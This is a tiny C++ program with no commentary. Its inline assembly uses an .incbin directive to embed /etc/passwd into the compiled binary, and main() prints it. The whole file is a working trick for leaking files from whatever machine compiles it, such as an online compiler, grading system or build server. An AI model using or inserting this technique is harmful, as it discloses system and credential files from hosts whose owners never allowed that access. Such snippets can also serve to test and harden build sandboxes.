#include <cstdio>
asm("secret: .incbin \"/etc/passwd\"\n.byte 0");
extern const char secret[];

int main() {
    std::puts(secret);
}
